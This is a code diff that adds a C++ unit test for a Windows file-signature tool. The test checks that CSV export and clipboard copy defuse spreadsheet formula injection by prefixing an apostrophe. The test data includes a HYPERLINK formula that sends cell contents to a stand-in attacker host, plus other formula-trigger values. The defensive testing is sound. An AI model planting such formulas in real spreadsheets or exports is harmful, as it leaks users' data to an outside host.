@@ -11,6 +11,7 @@
 #include "Signature.h"
 #include "TestHooks.h"
 #include "WizardStepOne.h"
+#include "WideUtf8.h"
 #include "WizardStepTwoDecode.h"
 #include "resource.h"
 
@@ -459,6 +460,80 @@ TEST_F(CheckStepTest, AFolderOrSeveralFilesGiveAListOfTheirSignatures) {
     Click(step, IDC_SELECT_FILE);
     EXPECT_EQ(listed, 2u);
     EXPECT_TRUE(session.Seam().messageBoxes.empty());
+}
+
+std::wstring ClipboardText() {
+    std::wstring text;
+    if (!::OpenClipboard(nullptr))
+        return L"(cannot open the clipboard)";
+    if (const HANDLE data = ::GetClipboardData(CF_UNICODETEXT)) {
+        if (const auto* chars = static_cast<const wchar_t*>(::GlobalLock(data))) {
+            text = chars;
+            ::GlobalUnlock(data);
+        }
+    }
+    ::CloseClipboard();
+    return text;
+}
+
+// A text that a spreadsheet would run as a formula is saved and copied as text, behind an
+// apostrophe (quoted in the CSV); the list shows it as it is.
+TEST_F(CheckStepTest, TextsASpreadsheetWouldRunAreSavedAndCopiedAsText) {
+    const struct {
+        std::wstring text;
+        std::string csv;     // its field in the CSV
+        std::wstring copied; // its cell on the clipboard
+    } cells[] = {
+        {LR"x(=HYPERLINK("https://attacker.example/?"&A2,"more"))x",
+         R"x("'=HYPERLINK(""https://attacker.example/?""&A2,""more"")")x",
+         LR"x('=HYPERLINK("https://attacker.example/?"&A2,"more"))x"},
+        {L"+1+2", "\"'+1+2\"", L"'+1+2"},
+        {L"-2+3", "\"'-2+3\"", L"'-2+3"},
+        {L"@SUM(A1:A9)", "\"'@SUM(A1:A9)\"", L"'@SUM(A1:A9)"},
+        {L"\t=1+1", "\"'\t=1+1\"", L"' =1+1"},
+        {L"\r\n=1+1", "\"'\r\n=1+1\"", L"'  =1+1"},
+        {L"Ada =1+1", "Ada =1+1", L"Ada =1+1"},
+        {L" =1+1", " =1+1", L" =1+1"},
+        {L"'=1+1", "'=1+1", L"'=1+1"},
+        {L"Bob, -1", "\"Bob, -1\"", L"Bob, -1"},
+    };
+    const fs::path folder = dir / L"hostile";
+    fs::create_directory(folder);
+    for (std::size_t i = 0; i < std::size(cells); ++i)
+        WriteSigned(folder / (L"f" + std::to_wstring(i) + L".txt"), cells[i].text,
+                    PatternBytes(50, static_cast<std::uint32_t>(i)), 0x66000000);
+    const fs::path csv = dir / L"list.csv";
+    std::vector<std::vector<std::wstring>> rows;
+    std::wstring copied;
+    CModalScript script(L"Signatures", [&](HWND dialog) {
+        rows = ReportRows(dialog, 4);
+        Click(dialog, IDC_REPORT_COPY);
+        copied = ClipboardText();
+        session.Seam().SaveAs(csv.wstring());
+        Click(dialog, IDC_REPORT_SAVE);
+        Click(dialog, IDCANCEL);
+    });
+    Drop({folder});
+    ASSERT_TRUE(script.Ran());
+    ASSERT_EQ(rows.size(), std::size(cells));
+    const Bytes saved = ReadBytes(csv);
+    const std::string text(saved.begin(), saved.end());
+    for (std::size_t i = 0; i < std::size(cells); ++i) {
+        const std::wstring file = (folder / (L"f" + std::to_wstring(i) + L".txt")).wstring();
+        SCOPED_TRACE(file);
+        const auto row = std::find_if(rows.begin(), rows.end(),
+                                      [&](const auto& shown) { return shown[0] == file; });
+        ASSERT_NE(row, rows.end());
+        EXPECT_EQ((*row)[2], cells[i].text.substr(0, cells[i].text.find_first_of(L"\r\n")));
+        EXPECT_NE(
+            text.find(Utf8(file) + ",Signed," + cells[i].csv + "," + Utf8((*row)[3]) + "\r\n"),
+            std::string::npos)
+            << text;
+        EXPECT_NE(copied.find(L"\r\n" + file + L"\tSigned\t" + cells[i].copied + L"\t" + (*row)[3] +
+                              L"\r\n"),
+                  std::wstring::npos)
+            << Utf8(copied);
+    }
 }
 
 } // namespace
